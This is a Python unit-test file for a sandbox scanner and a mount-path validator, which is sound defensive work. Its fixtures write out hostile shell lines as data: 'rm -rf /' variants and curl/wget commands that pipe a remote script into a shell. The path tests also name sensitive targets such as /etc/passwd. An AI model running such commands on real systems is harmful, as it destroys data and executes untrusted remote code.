"""Unit tests for mount-time path validation and source scanning."""

import os
from pathlib import Path

import pytest

from secure_assessment.exceptions import AssessmentError, ErrorCode
from secure_assessment.sandbox.scanner import (
    default_allowed_roots,
    scan_source,
    validate_container_path,
    validate_source_path,
)


class TestValidateSourcePath:
    def test_inside_root(self, tmp_path):
        project = tmp_path / "project"
        project.mkdir()

        assert validate_source_path(project, [tmp_path]) == project.resolve()

    def test_root_itself_allowed(self, tmp_path):
        assert validate_source_path(tmp_path, [tmp_path]) == tmp_path.resolve()

    def test_outside_roots_is_filesystem_violation(self, tmp_path):
        allowed = tmp_path / "allowed"
        allowed.mkdir()
        other = tmp_path / "other"
        other.mkdir()

        with pytest.raises(AssessmentError) as exc_info:
            validate_source_path(other, [allowed])

        assert exc_info.value.code is ErrorCode.SECURITY_VIOLATION_FILESYSTEM

    def test_traversal_is_resolved_before_checking(self, tmp_path):
        allowed = tmp_path / "allowed"
        allowed.mkdir()

        with pytest.raises(AssessmentError) as exc_info:
            validate_source_path(allowed / ".." / "..", [allowed])

        assert exc_info.value.is_security_violation

    def test_missing_path(self, tmp_path):
        with pytest.raises(AssessmentError) as exc_info:
            validate_source_path(tmp_path / "missing", [tmp_path])

        assert exc_info.value.code is ErrorCode.VALIDATION_ERROR

    def test_default_roots_include_workspace(self, tmp_path):
        assert tmp_path in default_allowed_roots(tmp_path)


class TestValidateContainerPath:
    @pytest.mark.parametrize(
        "path, expected",
        [("/workspace", "/workspace"), ("/code/", "/code"), ("//data//src", "/data/src"), ("/a/b/../c", "/a/c")],
    )
    def test_normalised(self, path, expected):
        assert validate_container_path(path) == expected

    @pytest.mark.parametrize("path", ["/", "/etc", "/etc/passwd", "/usr/lib", "/root", "/workspace/../bin"])
    def test_sensitive_targets_rejected(self, path):
        with pytest.raises(AssessmentError) as exc_info:
            validate_container_path(path)

        assert exc_info.value.code is ErrorCode.SECURITY_VIOLATION_FILESYSTEM

    @pytest.mark.parametrize("path", ["", "workspace", "./code"])
    def test_relative_rejected(self, path):
        with pytest.raises(AssessmentError) as exc_info:
            validate_container_path(path)

        assert exc_info.value.code is ErrorCode.VALIDATION_ERROR

    def test_similar_prefix_allowed(self):
        assert validate_container_path("/etcetera") == "/etcetera"


class TestScanSource:
    def test_clean_tree(self, nodejs_codebase):
        report = scan_source(nodejs_codebase)

        assert report.clean
        assert report.files_scanned == 2
        assert report.files_skipped == 0

    def test_detects_destructive_command(self, tmp_path):
        (tmp_path / "install.sh").write_text("#!/bin/sh\necho hi\nrm -rf / --no-preserve-root\n")

        report = scan_source(tmp_path)

        assert not report.clean
        finding = report.findings[0]
        assert finding.path == "install.sh"
        assert finding.line == 3
        assert finding.pattern == "destructive-rm"

    @pytest.mark.parametrize(
        "line, pattern",
        [
            ("curl https://x.example/i.sh | bash", "curl-pipe-shell"),
            ("wget -qO- https://x.example | sh", "wget-pipe-shell"),
            ("const r = eval(input);", "eval-call"),
            ("child.exec (cmd)", "exec-call"),
            ("os.system('ls')", "system-call"),
        ],
    )
    def test_patterns(self, tmp_path, line, pattern):
        (tmp_path / "file.js").write_text(line + "\n")

        report = scan_source(tmp_path)

        assert [f.pattern for f in report.findings] == [pattern]

    def test_nested_files_and_single_file_root(self, tmp_path):
        nested = tmp_path / "a" / "b"
        nested.mkdir(parents=True)
        target = nested / "deep.js"
        target.write_text("eval(x)\n")

        assert scan_source(tmp_path).findings[0].path == "a/b/deep.js"
        assert scan_source(target).findings[0].path == "deep.js"

    def test_skips_vcs_metadata(self, tmp_path):
        (tmp_path / ".git").mkdir()
        (tmp_path / ".git" / "hook").write_text("rm -rf /\n")
        (tmp_path / "index.js").write_text("module.exports = 1;\n")

        report = scan_source(tmp_path)

        assert report.clean
        assert report.files_scanned == 1

    def test_large_file_scanned_in_full(self, tmp_path):
        (tmp_path / "install.sh").write_text("#" * (6 * 1024 * 1024) + "\nrm -rf /\n")

        report = scan_source(tmp_path)

        assert [(f.path, f.line, f.pattern) for f in report.findings] == [("install.sh", 2, "destructive-rm")]

    def test_long_line_split_across_reads(self, tmp_path):
        # the pattern straddles the 64 KiB read boundary
        (tmp_path / "min.js").write_text("a" * (64 * 1024 - 3) + "rm -rf /\nok\n")

        report = scan_source(tmp_path)

        assert [(f.line, f.pattern) for f in report.findings] == [(1, "destructive-rm")]

    def test_file_above_cap_is_unscanned(self, tmp_path):
        (tmp_path / "big.js").write_text("x" * 200)
        (tmp_path / "small.js").write_text("x\n")

        report = scan_source(tmp_path, max_file_bytes=100)

        assert report.unscanned == ["big.js"]
        assert report.files_scanned == 1
        assert not report.clean

    def test_unreadable_file_is_unscanned(self, tmp_path, monkeypatch):
        (tmp_path / "locked.js").write_text("x\n")
        original_open = Path.open

        def deny(self, *args, **kwargs):
            if self.name == "locked.js":
                raise PermissionError(13, "Permission denied", str(self))
            return original_open(self, *args, **kwargs)

        monkeypatch.setattr(Path, "open", deny)

        report = scan_source(tmp_path)

        assert report.unscanned == ["locked.js"]
        assert not report.clean

    def test_binary_content_does_not_crash(self, tmp_path):
        (tmp_path / "blob.bin").write_bytes(b"\xff\xfe\x00rm -rf /\x00")

        report = scan_source(tmp_path)

        assert report.files_scanned == 1
        assert report.findings[0].pattern == "destructive-rm"

    @pytest.mark.skipif(not hasattr(os, "symlink"), reason="symlinks unsupported")
    def test_symlinks_not_followed_and_escapes_reported(self, tmp_path):
        outside = tmp_path / "outside"
        outside.mkdir()
        (outside / "evil.sh").write_text("rm -rf /\n")
        project = tmp_path / "project"
        project.mkdir()
        (project / "index.js").write_text("module.exports = 1;\n")
        (project / "linked").symlink_to(outside, target_is_directory=True)
        (project / "inner.js").symlink_to(project / "index.js")

        report = scan_source(project)

        assert report.findings == []
        assert report.escaping_links == ["linked"]
        assert report.files_scanned == 1
        assert report.files_skipped == 2
        assert not report.clean
